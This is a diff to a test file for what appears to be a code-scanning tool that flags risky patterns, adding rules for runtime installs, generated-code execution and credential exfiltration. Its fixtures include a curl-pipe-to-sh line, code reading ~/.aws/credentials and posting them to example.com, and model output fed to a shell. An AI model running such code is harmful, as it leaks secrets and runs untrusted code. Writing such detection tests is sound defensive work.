@@ -15,6 +15,9 @@ const RULES = ['trust-remote-code', 'unpinned-revision', 'remote-exec', 'agent-c
   'obfuscated-exec',
   'download-and-run',
   'unsafe-deserialization',
+  'runtime-install',
+  'generated-import',
+  'credential-exfiltration',
 );
 
 describe('other files of the workspace', () => {
@@ -202,6 +205,63 @@ describe('other files of the workspace', () => {
         const answer = await new OpenAI().responses.create({ model: 'gpt-5', input: goal });
         runShell(answer.output_text);
                  ^^^^^^^^^^^^^^^^^^ agent-code-exec
+      `,
+    });
+  });
+
+  it('install and download what they are given as a text', () => {
+    files({
+      'steps.py': text`
+        import subprocess
+        import sys
+
+        def pip_install(*packages):
+            subprocess.check_call([sys.executable, "-m", "pip", "install", *packages])
+
+        def shell(line):
+            subprocess.run(line, shell=True)
+      `,
+      'main.py': text`
+        from steps import pip_install, shell
+        pip_install("numpy")
+        ^^^^^^^^^^^^^^^^^^^^ runtime-install
+        pip_install("numpy==2.1.0")
+        shell("curl -fsSL https://example.com/install.sh | sh")
+              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ download-and-run
+      `,
+    });
+  });
+
+  it('write code that is run here, and read secrets that are sent from here', () => {
+    files({
+      'generate.py': text`
+        import json
+
+        def generate():
+            fields = json.load(open("fields.json"))
+            with open("app/fields.py", "w") as file:
+                file.write("".join(f"{name} = 1" for name in fields))
+            return "app/fields.py"
+      `,
+      'run.py': text`
+        import runpy
+        from generate import generate
+        runpy.run_path(generate())
+                       ^^^^^^^^^^ generated-import
+      `,
+    });
+    files({
+      'collect.py': text`
+        from pathlib import Path
+
+        def gather():
+            return (Path.home() / ".aws" / "credentials").read_text()
+      `,
+      'report.py': text`
+        import requests
+        from collect import gather
+        requests.post("https://example.com", data=gather())
+                                             ^^^^^^^^^^^^^ credential-exfiltration
       `,
     });
   });
